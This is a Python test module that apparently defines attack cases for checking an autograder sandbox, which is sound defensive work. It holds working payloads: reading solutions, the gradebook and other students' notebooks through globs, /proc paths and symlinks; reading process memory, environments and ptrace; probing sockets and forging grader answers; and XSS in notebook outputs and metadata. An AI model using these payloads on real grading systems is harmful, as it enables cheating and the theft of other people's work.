"""Attacks that try to read what they must not, or to carry it away."""

from __future__ import annotations

import textwrap

from autograder.tests.attacks import Attack, Hand, in_cell

READ = """
        import glob, os, re
        places = ["<OUTSIDE>", "<COURSE>/secret.txt", "<COURSE>/gradebook.db", "<COURSE>/submitted/a_honest/*/*",
            "<COURSE>/autograded/a_honest/*/*", "<COURSE>/solutions/*/*", "<ROOT>/solutions/*/*", "../../../*",
            "<ROOT>/solutions/*/*.py", "<ROOT>/autograder/judge/*.py", "/course/solutions/*/*",
            "/proc/1/root/<OUTSIDE>", "/proc/*/cwd/*", "/proc/self/root/<COURSE>/secret.txt", "/course/**/judge.py"]
        for place in places:
            for path in glob.glob(place, recursive=True):
                try:
                    text = open(path, "rb").read().decode("latin-1")
                except OSError:
                    continue
                for found in re.findall("CANARY-[a-z0-9]+|BEGIN SOL" + "UTION|Misc" + "onception[(]", text):
                    print("read", found, path)
"""
PROC = """
        import glob, re
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                text = open(path, "rb").read().decode("latin-1")
            except OSError:
                continue
            print(path, re.findall("CANARY-[a-z0-9]+", text))
        import ctypes
        libc = ctypes.CDLL(None)
        print("ptrace", [libc.ptrace(16, pid, 0, 0) for pid in (1, 2)])
"""
MEMORY = """
        import os
        others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
        for name in others:
            for mode in ("r+b", "rb"):
                try:
                    memory = open(f"/proc/{name}/mem", mode, buffering=0)
                except OSError as error:
                    print(type(error).__name__)
                else:
                    print("CANARY" + "-memory of", name, "was opened")
        print("there are", len(others), "others")
"""
NETWORK = """
        import socket, urllib.request
        for address in (("127.0.0.1", <PORT>), ("localhost", <PORT>), ("::1", <PORT>)):
            try:
                socket.create_connection(address, timeout=1).send(b"hello")
                print("connected")
            except OSError as error:
                print(type(error).__name__)
        for name in ("example.invalid", "localhost"):
            try:
                print("resolved", socket.getaddrinfo(name, 80)[:1])
            except OSError as error:
                print(type(error).__name__)
"""
LINE = """
        import os, socket
        line = get_ipython().line
        for descriptor in sorted(map(int, os.listdir("/proc/self/fd"))):
            try:
                other = socket.socket(fileno=os.dup(descriptor))
                print(descriptor, other.getpeername(), other.recv(2**20, socket.MSG_PEEK | socket.MSG_DONTWAIT))
            except OSError as error:
                print(descriptor, type(error).__name__)
        for text in ("100.0", "7.0"):
            line.tell("done", {"answer": text})
"""
HISTORY = """
        import gc, inspect, sys
        texts = [str(x) for x in (globals().get("In", []), globals().get("Out", {}), sys.argv)]
        words = ("hid" + "den=True", "BEGIN SOL" + "UTION", "expec" + "ted")
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Key", "Verdict", "Misconc" + "eption", "Exercise", "Gradebook"):
                print("found a", type(thing).__name__)
        for name in ("autograder.judge", "autograder.judge.reference", "autograder.courses"):
            try:
                __import__(name)
                print("Misconc" + "eption( can be had:", name)
            except ImportError:
                pass
"""
ACTIVE = """
        from IPython.display import HTML, Javascript, SVG, display
        display(HTML("<script>document.title = 'pwned'</script><img src=x onerror=alert(1)>"))
        display(Javascript("alert(2)"))
        display({"image/svg+xml": "<svg onload='alert(3)'/>", "text/html": "<iframe src='/'></iframe>",
            "application/javascript": "alert(4)", "text/latex": "<script>alert(5)</script>",
            "text/markdown": "<script>alert(6)</script>"}, raw=True)
        display({"image/png": "\\"><script>alert(7)</script>"}, raw=True, metadata={"image/png":
            {"alt": "\\"><script>alert(8)</script>", "width": "1\\" onload=\\"alert(9)"}})
        print("\\x1b[31m<script>alert(10)</script>\\x1b]8;;javascript:alert(11)\\x1b\\\\link")
        raise ValueError("<script>alert(12)</script>")
"""


def active(hand: Hand) -> None:
    hand.run(ACTIVE)
    hand.write(
        "<script>alert(20)</script> [x](javascript:alert(21)) <meta http-equiv=refresh content='0;url=//x'>"
    )
    hand.write("<!-- --><style>body{display:none}</style><form action='//x'><input name=password></form>")
    hand.notebook.metadata["title"] = "</title><script>alert(22)</script>"
    hand.notebook.metadata["widgets"] = {"x": "</script><script>alert(23)</script>"}


def carried_away(hand: Hand) -> None:
    """What an answer prints is held back; what it raises is shown."""
    body = ["words = []", "print = lambda *some: words.append(some)", textwrap.dedent(READ), "return words"]
    hand.run(
        "import functools\n@functools.cache\ndef carried():\n" + textwrap.indent("\n".join(body), "    ")
    )
    hand.answer("softmax", "def softmax(x, axis=-1):\n    raise ValueError(carried())")


def linked_notebook(hand: Hand) -> None:
    neighbours = hand.scene.course / "submitted/a_honest/01_weighted_sums"
    (hand.folder / hand.name).symlink_to(neighbours / hand.name)


PRINT_FILES = """
        import pathlib
        for path in pathlib.Path(".").rglob("*.*"):
            try:
                print(path, path.read_text(errors="replace").replace("### BEGIN", "BEGIN")[-4000:])
            except OSError:
                pass
"""


def linked_files(hand: Hand) -> None:
    """Links beside the notebook, which nbgrader would copy to where the student's code can read them."""
    (hand.folder / "a.txt").symlink_to(hand.scene.outside)
    (hand.folder / "b.txt").symlink_to(
        hand.scene.course / "submitted/a_honest/01_weighted_sums/weighted_sums.ipynb"
    )
    (hand.folder / "c.txt").symlink_to(hand.scene.root / "solutions/01_weighted_sums/weighted_sums.py")
    (hand.folder / "folder").symlink_to(hand.scene.course)
    hand.run(PRINT_FILES)


def linked_folder(hand: Hand) -> None:
    hand.folder.rmdir()
    hand.folder.symlink_to(hand.scene.course / "submitted/a_honest/01_weighted_sums")


LINK = "is a link"
ATTACKS = (
    Attack("leak_active_page", "scripts, frames, forms and pictures in outputs, text and metadata", active),
    Attack(
        "leak_files",
        "reads solutions, the judge, the gradebook, other submissions",
        in_cell(READ),
    ),
    Attack(
        "leak_files_in_answer",
        "the same while it answers, in the words of its error",
        carried_away,
        earns={"softmax": 0},
    ),
    Attack("leak_history", "searches In, Out, live objects and importable modules", in_cell(HISTORY)),
    Attack(
        "leak_link_neighbour",
        "its notebook is a link to another student's",
        linked_notebook,
        False,
        told=LINK,
    ),
    Attack("leak_linked_files", "links beside the notebook to secret files", linked_files, told="are links"),
    Attack(
        "leak_linked_folder",
        "its whole folder is a link to another student's",
        linked_folder,
        False,
        told=LINK,
    ),
    Attack(
        "leak_memory",
        "reads and writes the memory of every other process in its room",
        in_cell(MEMORY),
        shows="PermissionError",
    ),
    Attack("leak_network", "opens connections and looks names up", in_cell(NETWORK), shows="Error"),
    Attack(
        "leak_processes",
        "reads other processes' environments, and follows their steps",
        in_cell(PROC),
        shows="ptrace [-1, -1]",
    ),
    Attack("leak_line", "reads and ends what comes over the grader's line", in_cell(LINE)),
)
